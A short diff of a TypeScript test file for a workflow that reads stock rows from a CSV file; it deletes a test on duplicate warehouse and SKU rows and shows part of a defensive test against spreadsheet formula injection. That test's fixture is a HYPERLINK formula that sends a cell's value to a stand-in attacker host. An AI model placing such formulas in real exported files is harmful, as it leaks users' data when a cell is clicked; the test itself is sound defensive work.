@@ -36,13 +36,6 @@ describe('review44: Read Rows From a CSV File', () => {
 	});
 	afterEach(async () => await f.close());
 
-	it('two files in one run with the same warehouse and SKU: the later is refused, never both sent ("a run updates each row once")', async () => {
-		const file = (qty: number) => ({
-			text: `warehouse_code,partner_sku,qty\n${DXB},SKU-9,${qty}\n`,
-		});
-		await f.env.runWorkflow(workflowWithFiles([file(1), file(2)], STOCK_CSV));
-		expect(rowsSent(f).filter((row) => row.partner_sku === 'SKU-9')).toHaveLength(1);
-	});
 	it("a hostile service's status_code never reaches failedRows.csv as a spreadsheet formula", async () => {
 		const code = '=HYPERLINK("https://evil.example/?"&B2,"Fix")';
 		const items = [
